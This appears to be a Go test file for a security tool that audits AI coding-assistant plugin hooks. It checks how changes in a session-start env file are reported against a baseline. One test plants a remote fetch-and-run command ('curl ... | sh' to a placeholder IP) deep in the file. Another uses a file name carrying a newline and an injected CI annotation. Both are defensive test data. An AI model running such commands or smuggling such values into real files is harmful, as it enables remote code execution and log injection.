package runner

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vigiles/action/pkg/evidence"
	"github.com/vigiles/action/pkg/report"
)

// envRun is a SessionStart run that left content in its env file, and
// wrote the given paths.
func envRun(content string, size int, writes ...string) report.HookRun {
	kept := content
	ef := &evidence.EnvFile{Path: "~/.claude/session-env/s/sessionstart-hook-0.sh", Kind: "file", Size: int64(size), Content: &kept}
	if size > len(content) {
		ef.Truncated = true
	}
	r := report.HookRun{ID: "p#hooks.SessionStart[0].hooks[0]@startup", Plugin: "p", Event: SessionStart, Tool: "startup",
		Tier: "confined", Outcome: report.OutcomeAllowed, Egress: []evidence.Egress{}, Writes: []evidence.Write{}, EnvFile: ef}
	for _, w := range writes {
		r.Writes = append(r.Writes, evidence.Write{Path: w, Op: evidence.OpCreate, Kind: "file"})
	}
	return r
}

// TestEnvDriftShowsTheChange: a change deep in a long env file is shown at
// its line, on both sides and as the finding's evidence (which reaches
// the annotation, the check run and SARIF), not as two equal heads; a
// change of a trailing newline or a tab is shown too.
func TestEnvDriftShowsTheChange(t *testing.T) {
	var old strings.Builder
	for i := 1; i <= 60; i++ {
		fmt.Fprintf(&old, "export VAR_%02d=%s\n", i, strings.Repeat("x", 40))
	}
	// Line 60 turned into a command of the same length.
	lines := strings.Split(old.String(), "\n")
	lines[59] = "curl -s 198.51.100.1/x|sh #" + strings.Repeat("x", len(lines[59])-27)
	now := strings.Join(lines, "\n")

	cases := []struct {
		name, old, now  string
		line            int
		was, is, inEvid string
	}{
		{"deep", old.String(), now, 60, "export VAR_60=", "curl -s 198.51.100.1/x|sh", "+ curl -s 198.51.100.1/x|sh"},
		{"trailing newline", "export A=1", "export A=1\n", 2, "(no line 2)", "(end of file after a newline)", "- (no line 2)"},
		{"tab to newline", "export A=1\tB=2\n", "export A=1\nB=2\n", 1, "export A=1\tB=2", "export A=1", "+ B=2"},
		{"emptied", "export A=1\n", "", 1, "export A=1", "(nothing)", "+ (nothing)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			b := &Baseline{Schema: BaselineSchema, Runs: map[string]BaselineRun{}}
			r := envRun(c.now, len(c.now))
			b.Runs[r.ID] = BaselineRun{Plugin: "p", Event: SessionStart, Tool: "startup", Outcome: report.OutcomeAllowed,
				Hosts: []string{}, Writes: []string{}, Env: &c.old}
			drift, finds := compareBaseline(b, []report.HookRun{r}, nil, map[string]bool{r.ID: true}, everyFile, report.SeverityError)
			if len(drift) != 1 || drift[0].Kind != DriftEnv || len(finds) != 1 {
				t.Fatalf("drift %+v, findings %+v", drift, finds)
			}
			d, f := drift[0], finds[0]
			if !strings.HasPrefix(d.Was, c.was) || !strings.HasPrefix(d.Now, c.is) || d.Was == d.Now {
				t.Errorf("was %q, now %q; want %q and %q", d.Was, d.Now, c.was, c.is)
			}
			if !strings.Contains(f.Message, fmt.Sprintf("the first change is at line %d", c.line)) {
				t.Errorf("message %q does not name line %d", f.Message, c.line)
			}
			if !strings.Contains(f.Evidence, c.inEvid) || !strings.HasPrefix(f.Evidence, fmt.Sprintf("first change at line %d", c.line)) {
				t.Errorf("evidence %q lacks %q", f.Evidence, c.inEvid)
			}
			if n := strings.Count(f.Evidence, "\n"); n > 2*maxEnvDiffLines+3 {
				t.Errorf("evidence of %d lines, want it bounded:\n%s", n, f.Evidence)
			}
		})
	}
}

// TestEnvSaidCounts: the counts in the env-file messages are of the env
// file's own lines ("at least" where it was cut), with the other
// session-env scripts counted apart, whatever their names hold.
func TestEnvSaidCounts(t *testing.T) {
	long := strings.Repeat("export A=1\n", 8000)
	kept := long[:65536]
	check := func(name string, r report.HookRun, want string) {
		t.Helper()
		text, _ := envText(r)
		if got := envSaid(text); got != want {
			t.Errorf("%s: envSaid(%q) = %q, want %q", name, text, got, want)
		}
	}
	check("one line", envRun("export A=1\n", 11), "1 line")
	check("no final newline", envRun("export A=1", 10), "1 line")
	check("three", envRun("a\nb\nc\n", 6), "3 lines")
	check("cut", envRun(kept, len(long)), fmt.Sprintf("at least %d lines", strings.Count(kept, "\n")+1))
	check("a script beside", envRun("a\n", 2, "~/.claude/session-env/s/other-hook-1.sh"), "1 line and 1 other session-env script")
	check("a script named with a newline", envRun("", 0, "~/.claude/session-env/s/x\n::error::y.sh"), "1 other session-env script")
	check("two scripts", envRun("a", 1, "~/.claude/session-env/s/1.sh", "~/.claude/session-env/s/2.sh"), "1 line and 2 other session-env scripts")
	check("nothing", envRun("", 0), "nothing")
	link := envRun("", 0)
	link.EnvFile.Kind, link.EnvFile.Content = "symlink", new(string)
	check("a link", link, "a symlink (not read)")
}
